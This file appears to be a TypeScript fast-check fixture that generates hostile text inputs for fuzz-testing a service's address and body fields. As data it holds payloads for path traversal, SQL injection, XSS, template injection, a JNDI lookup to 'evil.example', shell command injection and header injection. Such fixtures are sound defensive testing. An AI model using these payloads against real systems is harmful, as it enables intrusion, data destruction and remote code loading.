import * as fc from 'fast-check';

import { anyCharacter } from '../any-character';

const KNOWN: readonly (readonly [string, string])[] = [
  ['an empty text', ''],
  ['NUL', 'a\0b'],
  ['only NUL', '\0'],
  ['white space', ' \t\r\n'],
  ['a header on a second line', 'a\r\nset-cookie: a=b'],
  ['path traversal', '../../../../etc/passwd'],
  ['encoded path traversal', '..%2f..%2fadmin'],
  ['a dot segment', '..'],
  ['a Windows path', String.raw`..\..\windows\win.ini`],
  ['a broken escape', '%E0%A4%A'],
  ['another host', '//evil.example/a'],
  ['SQL', "' OR '1'='1'; DROP TABLE users; --"],
  ['NoSQL', '{"$ne": null}'],
  ['markup', '<img src=x onerror=alert(1)>'],
  ['a template', '${7*7}{{7*7}}<%= 7*7 %>'],
  ['JNDI', '${jndi:ldap://evil.example/a}'],
  ['a shell command', '$(reboot);`reboot`|reboot'],
  ['a script address', 'javascript:alert(1)'],
  ['an expression that backtracks', `${'a'.repeat(60)}!`],
  ['an expression', '(a+)+$'],
  ['a wildcard', '.*%_'],
  ['a number', '-1e309'],
  ['a large number', '9'.repeat(400)],
  ['NaN', 'NaN'],
  ['null', 'null'],
  ['undefined', 'undefined'],
  ['a boolean', 'true'],
  ['a key of all objects', '__proto__'],
  ['a method of all objects', 'hasOwnProperty'],
  ['right-to-left text', 'user\u202egnp.exe'],
  ['invisible text', '\u200b\ufeff'],
  ['many accents', `a${'\u0301'.repeat(100)}`],
  ['one character of many', '👨‍👩‍👧‍👦'.repeat(20)],
  ['text that grows in upper case', 'ŉﬃß'.repeat(20)],
  ['half a character', '\ud83d'],
  ['the other half', 'a\ude00'],
  ['a non-character', '\uffff'],
];

/** A length above any field's limit, but short enough for a URL. */
const LONG = 10_000;
/** A length above any body's limit (64 KB, T31). */
const HUGE = 70_000;

export type HostileText = {
  because: string;
  text: string;
};

const known = fc.constantFrom(...KNOWN).map(([because, text]) => ({ because, text }));

const random = fc.oneof(
  fc.string({ unit: anyCharacter }).map((text) => ({ because: 'any characters', text })),
  fc
    .string({
      unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code)),
    })
    .map((text) => ({ because: 'lone surrogates', text })),
);

const repeated = (length: number): fc.Arbitrary<HostileText> =>
  fc
    .constantFrom('a', ' ', '0', '%', '.', '"')
    .map((unit) => ({ because: `${length} characters`, text: unit.repeat(length) }));

export const hostileAddressTexts: fc.Arbitrary<HostileText> = fc.oneof(
  { arbitrary: known, weight: 8 },
  { arbitrary: random, weight: 4 },
  {
    arbitrary: fc.constant({ because: `${LONG} characters`, text: 'a'.repeat(LONG) }),
    weight: 1,
  },
);

export const hostileBodyTexts: fc.Arbitrary<HostileText> = fc.oneof(
  { arbitrary: known, weight: 8 },
  { arbitrary: random, weight: 4 },
  { arbitrary: repeated(LONG), weight: 1 },
  { arbitrary: repeated(HUGE), weight: 1 },
);
